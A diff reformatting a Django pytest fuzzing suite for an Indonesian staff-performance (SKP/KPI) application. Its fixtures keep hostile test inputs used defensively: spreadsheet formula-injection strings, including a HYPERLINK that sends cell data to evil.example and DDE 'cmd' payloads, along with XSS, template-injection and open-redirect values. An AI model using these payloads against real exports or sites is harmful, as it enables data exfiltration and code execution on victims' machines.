@@ -46,8 +46,11 @@ pytestmark = pytest.mark.django_db
 
 SCRIPT = "<script>alert(1)</script>"
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
-FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Klik")', "+cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|' /C calc'!A0"]  # fmt: skip
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+]
 
 # By the kind of value a field takes (guessed from the valid submission), so that each
 # field meets the hostile values that can get past its first check.
@@ -95,69 +98,111 @@ def dunia(cast):
     a KPI, a dispensasi, a batch job and an uraian tugas."""
     p = cast.periode
     skp_ketua, rk_ketua = skp_atasan_dengan_rk(cast)
-    rk_ketua2 = tambah_rk(skp_ketua, teks="Tersedianya data terpadu universitas",
-                          intervensi_teks_bebas="Rencana kinerja Wakil Rektor")  # fmt: skip
+    rk_ketua2 = tambah_rk(
+        skp_ketua,
+        teks="Tersedianya data terpadu universitas",
+        intervensi_teks_bebas="Rencana kinerja Wakil Rektor",
+    )
     skp = drafting.mulai_skp(cast.pegawai, p, oleh=cast.pegawai)
     rk = tambah_rk(skp, intervensi_id=rk_ketua.pk)
     rk2 = tambah_rk(skp, teks="Terlaksananya layanan data", intervensi_id=rk_ketua2.pk)
     iki = rk.indikator.get()
     iki2 = drafting.tambah_indikator(
-        rk, oleh=cast.pegawai,
-        isian=drafting.IsianIndikator(aspek=Aspek.KUALITAS, teks="Laporan diterima",
-                                      target_teks="Tanpa revisi"),
-    )  # fmt: skip
+        rk,
+        oleh=cast.pegawai,
+        isian=drafting.IsianIndikator(
+            aspek=Aspek.KUALITAS, teks="Laporan diterima", target_teks="Tanpa revisi"
+        ),
+    )
     skp_lain = drafting.mulai_skp(cast.pegawai_lain, p, oleh=cast.pegawai_lain)
     tambah_rk(skp_lain, intervensi_teks_bebas="Rencana kinerja Kepala Unit B")
     ajukan_skp(skp_lain, oleh=cast.pegawai_lain)
     ketua = cast.atasan_langsung
     matriks = kpi_services.buat_matriks(
-        periode=p, nama="Tim Unit A", ketua=ketua, unit_kerja=cast.unit_a,
-        isi_anggota_unit=True, oleh=ketua,
-    )  # fmt: skip
+        periode=p,
+        nama="Tim Unit A",
+        ketua=ketua,
+        unit_kerja=cast.unit_a,
+        isi_anggota_unit=True,
+        oleh=ketua,
+    )
     anggota_lain = kpi_services.tambah_anggota(matriks, cast.pegawai_lain, oleh=ketua)
     kolom = kpi_services.tambah_kolom(matriks, rencana_kinerja=rk_ketua, oleh=ketua)
     anggota = matriks.anggota.get(pegawai=cast.pegawai)
     kpi_services.simpan_sel(
-        matriks, anggota, kolom, is_na=False, oleh=ketua,
+        matriks,
+        anggota,
+        kolom,
+        is_na=False,
+        oleh=ketua,
         peran_hasil=[kpi_services.DataPeranHasil("Tersusunnya laporan layanan")],
-    )  # fmt: skip
+    )
     # The cell applied, the pegawai's own target, then a cell change: a matriks proposal
     # (conflict) beside that RK, for the notice's buttons.
     kpi_services.terapkan_ke_skp(matriks, oleh=ketua)
     rk_matriks = RencanaKinerja.objects.get(skp=skp, asal=AsalRencanaKinerja.MATRIKS)
     iki_matriks = rk_matriks.indikator.get()
-    drafting.ubah_indikator(iki_matriks, oleh=cast.pegawai, isian=drafting.IsianIndikator(
-        aspek=Aspek.KUANTITAS, teks=iki_matriks.teks, target_min=3, satuan="laporan"))  # fmt: skip
+    drafting.ubah_indikator(
+        iki_matriks,
+        oleh=cast.pegawai,
+        isian=drafting.IsianIndikator(
+            aspek=Aspek.KUANTITAS, teks=iki_matriks.teks, target_min=3, satuan="laporan"
+        ),
+    )
     kpi_services.simpan_sel(
-        matriks, anggota, kolom, is_na=False, oleh=ketua,
-        peran_hasil=[kpi_services.DataPeranHasil("Tersusunnya laporan layanan", target=5,
-                                                 satuan="laporan")],
-    )  # fmt: skip
+        matriks,
+        anggota,
+        kolom,
+        is_na=False,
+        oleh=ketua,
+        peran_hasil=[
+            kpi_services.DataPeranHasil("Tersusunnya laporan layanan", target=5, satuan="laporan")
+        ],
+    )
     kpi_services.terapkan_ke_skp(matriks, oleh=ketua)
-    kpi = kpi_services.buat_kpi(unit=cast.unit_a, periode=p, pernyataan="Semua server terbackup",
-                                oleh=ketua)  # fmt: skip
+    kpi = kpi_services.buat_kpi(
+        unit=cast.unit_a, periode=p, pernyataan="Semua server terbackup", oleh=ketua
+    )
     dispensasi = beri_dispensasi(
-        p, oleh=cast.admin, tahap="penyusunan", alasan="Cuti melahirkan",
-        berlaku_sampai=p.penyusunan_selesai + datetime.timedelta(days=5), pegawai=cast.pegawai,
-    )  # fmt: skip
+        p,
+        oleh=cast.admin,
+        tahap="penyusunan",
+        alasan="Cuti melahirkan",
+        berlaku_sampai=p.penyusunan_selesai + datetime.timedelta(days=5),
+        pegawai=cast.pegawai,
+    )
     batch = minta_batch_dokumen(oleh=cast.admin, unit=cast.root, periode=p)
     uraian_tugas.simpan_uraian_tugas(cast.pegawai, oleh=cast.pegawai, teks="Mengelola server")
     lalu = Periode.objects.create(
-        tahun=p.tahun - 1, tanggal_mulai=datetime.date(p.tahun - 1, 1, 1),
+        tahun=p.tahun - 1,
+        tanggal_mulai=datetime.date(p.tahun - 1, 1, 1),
         tanggal_selesai=datetime.date(p.tahun - 1, 12, 31),
         penyusunan_mulai=datetime.date(p.tahun - 1, 1, 2),
         penyusunan_selesai=datetime.date(p.tahun - 1, 1, 31),
         validasi_mulai=datetime.date(p.tahun - 1, 1, 2),
         validasi_selesai=datetime.date(p.tahun - 1, 2, 28),
-    )  # fmt: skip
+    )
     skp_lalu = Skp.objects.create(pegawai=cast.pegawai, periode=lalu)
     isi_lengkap(skp_lalu)
     return SimpleNamespace(
-        **vars(cast), skp=skp, rk=rk, rk2=rk2, iki=iki, iki2=iki2, skp_ketua=skp_ketua,
-        rk_ketua=rk_ketua, skp_lain=skp_lain, matriks=matriks, anggota=anggota,
-        anggota_lain=anggota_lain, kolom=kolom, kpi=kpi, dispensasi=dispensasi, batch=batch,
+        **vars(cast),
+        skp=skp,
+        rk=rk,
+        rk2=rk2,
+        iki=iki,
+        iki2=iki2,
+        skp_ketua=skp_ketua,
+        rk_ketua=rk_ketua,
+        skp_lain=skp_lain,
+        matriks=matriks,
+        anggota=anggota,
+        anggota_lain=anggota_lain,
+        kolom=kolom,
+        kpi=kpi,
+        dispensasi=dispensasi,
+        batch=batch,
         rk_matriks=rk_matriks,
-    )  # fmt: skip
+    )
 
 
 # --- The URL table ----------------------------------------------------------------------------
@@ -201,7 +246,7 @@ KWARGS: dict[str, Callable] = {
         "pk": w.matriks.pk,
         "anggota_pk": w.anggota.pk,
         "kolom_pk": w.kolom.pk,
-    },  # fmt: skip
+    },
     "kpi:terapkan": lambda w: {"pk": w.matriks.pk},
     "kpi:matriks_xlsx": lambda w: {"pk": w.matriks.pk},
     "kpi:matriks_pdf": lambda w: {"pk": w.matriks.pk},
@@ -243,11 +288,15 @@ class Aksi:
 def _periode_baru(w) -> dict:
     t = w.periode.tahun + 1
     return {
-        "tahun": str(t), "profil_regulasi": "permenpanrb_8_2021",
-        "tanggal_mulai": f"{t}-01-01", "tanggal_selesai": f"{t}-12-31",
-        "penyusunan_mulai": f"{t}-01-02", "penyusunan_selesai": f"{t}-01-31",
-        "validasi_mulai": f"{t}-01-02", "validasi_selesai": f"{t}-02-28",
-    }  # fmt: skip
+        "tahun": str(t),
+        "profil_regulasi": "permenpanrb_8_2021",
+        "tanggal_mulai": f"{t}-01-01",
+        "tanggal_selesai": f"{t}-12-31",
+        "penyusunan_mulai": f"{t}-01-02",
+        "penyusunan_selesai": f"{t}-01-31",
+        "validasi_mulai": f"{t}-01-02",
+        "validasi_selesai": f"{t}-02-28",
+    }
 
 
 def _periode_ini(w) -> dict:
@@ -258,8 +307,18 @@ def _periode_ini(w) -> dict:
 
 def _pegawai_ini(w) -> dict:
     p = w.pegawai
-    names = ["nama", "gelar_depan", "gelar_belakang", "jenis_asn", "golongan", "jabatan",
-             "jenis_jabatan", "jenjang", "email", "status_kepegawaian"]  # fmt: skip
+    names = [
+        "nama",
+        "gelar_depan",
+        "gelar_belakang",
+        "jenis_asn",
+        "golongan",
+        "jabatan",
+        "jenis_jabatan",
+        "jenjang",
+        "email",
+        "status_kepegawaian",
+    ]
     data = {name: str(getattr(p, name, "") or "") for name in names}
     return {**data, "unit_kerja": str(p.unit_kerja_id)}
 
@@ -278,7 +337,7 @@ AKSI = [
         "pegawai",
         lambda w: {"username": w.pegawai.nip, "password": PASSWORD},
         post_only=False,
-    ),  # fmt: skip
+    ),
     Aksi("logout", "pegawai", "anon"),
     Aksi(
         "password_change",
@@ -290,7 +349,7 @@ AKSI = [
             "new_password1": "Sandi-Baru-Kuat-2026x",
             "new_password2": "Sandi-Baru-Kuat-2026x",
         },
-    ),  # fmt: skip
+    ),
     Aksi("skp:mulai", "atasan_lain", "anon", lambda w: {"periode": str(w.periode.pk)}),
     Aksi(
         "skp:rk_tambah",
@@ -304,7 +363,7 @@ AKSI = [
             "rk-utama-iki_target": "12",
             "rk-utama-iki_satuan": "laporan",
         },
-    ),  # fmt: skip
+    ),
     Aksi(
         "skp:rk_ubah",
         "pegawai",
@@ -316,7 +375,7 @@ AKSI = [
             f"rk-{w.rk.pk}-intervensi_teks_bebas": "",
             f"rk-{w.rk.pk}-revisi": str(type(w.rk).objects.get(pk=w.rk.pk).revisi),
         },
-    ),  # fmt: skip
+    ),
     Aksi("skp:rk_hapus", "pegawai", "atasan_langsung"),
     Aksi("skp:rk_pindah", "pegawai", "atasan_langsung", lambda w: {"arah": "turun"}),
     Aksi("skp:rk_kabar_tutup", "pegawai", "atasan_langsung"),
@@ -332,7 +391,7 @@ AKSI = [
             f"iki-baru-{w.rk.pk}-satuan": "bulan",
             f"iki-baru-{w.rk.pk}-arah": "",
         },
-    ),  # fmt: skip
+    ),
     Aksi(
         "skp:iki_ubah",
         "pegawai",
@@ -345,7 +404,7 @@ AKSI = [
             f"iki-{w.iki.pk}-arah": "tinggi",
             f"iki-{w.iki.pk}-revisi": str(type(w.iki).objects.get(pk=w.iki.pk).revisi),
         },
-    ),  # fmt: skip
+    ),
     Aksi("skp:iki_hapus", "pegawai", "atasan_langsung"),
     Aksi("skp:iki_pindah", "pegawai", "atasan_langsung", lambda w: {"arah": "turun"}),
     Aksi("skp:salin", "pegawai", "atasan_langsung"),
@@ -356,7 +415,7 @@ AKSI = [
         "atasan_langsung",
         post_only=False,
         data=lambda w: {"teks": "Mengelola server\nMenyusun laporan", "kembali": "/skp/"},
-    ),  # fmt: skip
+    ),
     Aksi("periode:periode_tambah", "admin", "pegawai", _periode_baru, post_only=False),
     Aksi("periode:periode_ubah", "admin", "pegawai", _periode_ini, post_only=False),
     Aksi(
@@ -379,13 +438,13 @@ AKSI = [
         "pegawai_lain",
         post_only=False,
         data=lambda w: {"catatan": "Naikkan target kuantitasnya.", "revisi": revisi(w.skp_lain)},
-    ),  # fmt: skip
+    ),
     Aksi(
         "skp:komentar",
         "atasan_lain",
         "pegawai_lain",
         lambda w: {"butir": "", "teks": "Rinci waktunya."},
-    ),  # fmt: skip
+    ),
     Aksi(
         "periode:dispensasi_tambah",
         "admin",
@@ -398,13 +457,13 @@ AKSI = [
             "alasan": "Sakit",
             "berlaku_sampai": f"{w.periode.validasi_selesai + datetime.timedelta(days=3):%Y-%m-%d}",
         },
-    ),  # fmt: skip
+    ),
     Aksi(
         "skp:batch_minta",
         "admin",
         "pegawai",
         lambda w: {"unit_kerja": str(w.unit_a.pk), "periode": str(w.periode.pk)},
-    ),  # fmt: skip
+    ),
     Aksi(
         "kpi:matriks_buat",
         "atasan_lain",
@@ -415,17 +474,15 @@ AKSI = [
             "unit_kerja": str(w.unit_b.pk),
             "isi_anggota_unit": "on",
         },
-    ),  # fmt: skip
-    Aksi(
-        "kpi:anggota_tambah", "atasan_langsung", "pegawai", lambda w: {"nip": w.atasan_lain.nip}
-    ),  # fmt: skip
+    ),
+    Aksi("kpi:anggota_tambah", "atasan_langsung", "pegawai", lambda w: {"nip": w.atasan_lain.nip}),
     Aksi("kpi:anggota_hapus", "atasan_langsung", "pegawai"),
     Aksi(
         "kpi:kolom_tambah",
         "atasan_langsung",
         "pegawai",
         lambda w: {"rencana_kinerja": "", "kpi": "", "judul": "Tersedianya data tim"},
-    ),  # fmt: skip
+    ),
     Aksi("kpi:kolom_hapus", "atasan_langsung", "pegawai"),
     Aksi(
         "kpi:sel_ubah",
@@ -443,14 +500,14 @@ AKSI = [
             "ph-0-target": "12",
             "ph-0-satuan": "laporan",
         },
-    ),  # fmt: skip
+    ),
     Aksi(
         "kpi:terapkan",
         "atasan_langsung",
         "pegawai",
         lambda w: {"sidik": kpi_services.rencana_terapkan(w.matriks, oleh=w.atasan_langsung).sidik},
         post_only=False,
-    ),  # fmt: skip
+    ),
     Aksi(
         "kpi:tambah",
         "atasan_langsung",
@@ -461,14 +518,14 @@ AKSI = [
             "target": "99,5",
             "satuan": "%",
         },
-    ),  # fmt: skip
+    ),
     Aksi(
         "kpi:ubah",
         "atasan_langsung",
         "pegawai",
         post_only=False,
         data=lambda w: {"pernyataan": "Semua server terbackup", "target": "7", "satuan": "kali"},
-    ),  # fmt: skip
+    ),
     Aksi("kpi:hapus", "atasan_langsung", "pegawai"),
     # Roster import (issue 3), fuzzed once that branch lands; skipped while its URLs are absent.
     Aksi(
@@ -478,7 +535,7 @@ AKSI = [
         post_only=False,
         files=("berkas",),
         data=lambda w: {"periode": str(w.periode.pk)},
-    ),  # fmt: skip
+    ),
     Aksi("kepegawaian:roster_terapkan", "admin", "pegawai", baseline=404),
     Aksi("kepegawaian:roster_batal", "admin", "pegawai", baseline=404),
     Aksi(
@@ -490,7 +547,7 @@ AKSI = [
             "atasan_langsung": w.atasan_langsung.nip,
             "atasan_penilai": w.atasan_penilai.nip,
         },
-    ),  # fmt: skip
+    ),
     Aksi("kepegawaian:pegawai_ubah", "admin", "pegawai", post_only=False, data=_pegawai_ini),
     # Answers with the page that shows the temporary password once (no redirect: no copy of
     # it may sit in a session message).
@@ -508,8 +565,11 @@ def _url_names() -> list[tuple[str, URLPattern]]:
             if isinstance(p, URLResolver):
                 if p.namespace == "admin":
                     continue
-                inner = f"{namespace}:{p.namespace}" if namespace and p.namespace else (
-                    p.namespace or namespace)  # fmt: skip
+                inner = (
+                    f"{namespace}:{p.namespace}"
+                    if namespace and p.namespace
+                    else (p.namespace or namespace)
+                )
                 walk(p.url_patterns, inner)
             elif p.name:
                 found.append((f"{namespace}:{p.name}" if namespace else p.name, p))
@@ -522,10 +582,15 @@ URL_NAMES = [name for name, _ in _url_names()]
 
 
 AKSI_PARAMS = [
-    pytest.param(aksi, id=aksi.name, marks=[] if aksi.name in URL_NAMES else [
-        pytest.mark.skip(reason=f"{aksi.name} belum ada di cabang ini")])
+    pytest.param(
+        aksi,
+        id=aksi.name,
+        marks=[]
+        if aksi.name in URL_NAMES
+        else [pytest.mark.skip(reason=f"{aksi.name} belum ada di cabang ini")],
+    )
     for aksi in AKSI
-]  # fmt: skip
+]
 
 
 # --- Helpers ------------------------------------------------------------------------------
@@ -650,17 +715,23 @@ def test_valid_submission_is_accepted_and_hostile_input_never_breaks_a_form(duni
     # The allowed user: each field in turn, the others valid, plus a junk field.
     for name in [*valid, *aksi.files] or ["zz_tambahan"]:
         for payload, value in hostile_for(valid.get(name, "")).items():
-            hasil = kirim(client, url, lengkap(**{name: value, "zz_sampah": value}),
-                          tampilkan=payload in DISPLAY)  # fmt: skip
-            failures += periksa(hasil, f"POST {url} {name}={payload}", boleh_mengubah=True,
-                                sukses=aksi.sukses)  # fmt: skip
+            hasil = kirim(
+                client,
+                url,
+                lengkap(**{name: value, "zz_sampah": value}),
+                tampilkan=payload in DISPLAY,
+            )
+            failures += periksa(
+                hasil, f"POST {url} {name}={payload}", boleh_mengubah=True, sukses=aksi.sukses
+            )
     # A user who may not: every field hostile at once; refused, nothing written.
     other = client_for(dunia, aksi.other)
     for payload in ("nul", "html", "100k", "20 digit", "30 Feb"):
         value = HOSTILE[payload]
         hasil = kirim(other, url, dict.fromkeys([*valid, "zz_sampah"], value))
-        failures += periksa(hasil, f"POST {url} semua={payload} ({aksi.other})",
-                            boleh_mengubah=False)  # fmt: skip
+        failures += periksa(
+            hasil, f"POST {url} semua={payload} ({aksi.other})", boleh_mengubah=False
+        )
         if hasil.status not in (302, 403, 404):
             failures.append(f"POST {url} semua={payload}: {aksi.other} mendapat {hasil.status}")
     assert not failures, "\n".join(failures[:40])
@@ -699,11 +770,14 @@ def test_no_csrf_token_oversized_bodies_and_field_floods_are_refused(dunia, aksi
             failures.append(f"POST {url} {label}: {hasil.status}, seharusnya 400")
 
     # A stray non-xlsx file: ignored by forms without an upload, refused by one with.
-    berkas = {name: SimpleUploadedFile("daftar.xlsx", b"MZ\x90\x00 bukan spreadsheet" * 100)
-              for name in (*aksi.files, "zz_berkas")}  # fmt: skip
+    berkas = {
+        name: SimpleUploadedFile("daftar.xlsx", b"MZ\x90\x00 bukan spreadsheet" * 100)
+        for name in (*aksi.files, "zz_berkas")
+    }
     hasil = kirim(client, url, {**valid, **berkas})
-    failures += periksa(hasil, f"POST {url} berkas", boleh_mengubah=not aksi.files,
-                        sukses=aksi.sukses)  # fmt: skip
+    failures += periksa(
+        hasil, f"POST {url} berkas", boleh_mengubah=not aksi.files, sukses=aksi.sukses
+    )
 
     if aksi.post_only:
         status = client.get(url).status_code
@@ -745,12 +819,15 @@ def test_formula_strings_typed_by_users_come_out_of_every_export_as_text(dunia):
     SKP, matriks and rekap spreadsheets: opening one never runs a formula."""
     w = dunia
     for teks in FORMULAS:
-        tambah_rk(w.skp, teks=teks, intervensi_id=w.rk_ketua.pk,
-                  indikator=kuantitas(teks=teks))  # fmt: skip
+        tambah_rk(w.skp, teks=teks, intervensi_id=w.rk_ketua.pk, indikator=kuantitas(teks=teks))
     kpi_services.simpan_sel(
-        w.matriks, w.anggota, w.kolom, is_na=False, oleh=w.atasan_langsung,
+        w.matriks,
+        w.anggota,
+        w.kolom,
+        is_na=False,
+        oleh=w.atasan_langsung,
         peran_hasil=[kpi_services.DataPeranHasil(t, indikator=t) for t in FORMULAS],
-    )  # fmt: skip
+    )
     type(w.pegawai).objects.filter(pk=w.pegawai.pk).update(nama=FORMULAS[2], jabatan=FORMULAS[1])
     exports = [
         ("pegawai", reverse("skp:xlsx", args=[w.skp.pk])),
@@ -769,11 +846,18 @@ GET_ROLE = {"skp:detail": "pegawai", "kpi:matriks": "atasan_langsung", "kpi:sel"
 QUERY = [
     dict.fromkeys(["tahun", "periode", "ubah_rk", "ubah_iki", "unit", "page", "kembali"], "²"),
     {
-        "tahun": "\x00", "periode": "99999999999999999999", "ubah_rk": "99999999999999999999",
-        "ubah_iki": "-1", "kembali": "//evil.example/", "next": "https://evil.example/",
-        "q": f"{SCRIPT} zz{{{{ 7*7 }}}}zz", "unit": "\x00", "status": SCRIPT, "page": "1e309",
+        "tahun": "\x00",
+        "periode": "99999999999999999999",
+        "ubah_rk": "99999999999999999999",
+        "ubah_iki": "-1",
+        "kembali": "//evil.example/",
+        "next": "https://evil.example/",
+        "q": f"{SCRIPT} zz{{{{ 7*7 }}}}zz",
+        "unit": "\x00",
+        "status": SCRIPT,
+        "page": "1e309",
     },
-]  # fmt: skip
+]
 
 
 def test_hostile_query_parameters_never_break_a_page(dunia):
@@ -789,8 +873,14 @@ def test_hostile_query_parameters_never_break_a_page(dunia):
         for query in QUERY:
             response = client.get(url, query)
             exc = getattr(response, "exc_info", None)
-            hasil = Hasil(response.status_code, False, [], response.content,
-                          dict(response.items()), repr(exc[1]) if exc else "")  # fmt: skip
+            hasil = Hasil(
+                response.status_code,
+                False,
+                [],
+                response.content,
+                dict(response.items()),
+                repr(exc[1]) if exc else "",
+            )
             failures += periksa(hasil, f"GET {url}?{urlencode(query)[:60]}", boleh_mengubah=False)
     assert not failures, "\n".join(failures)
 
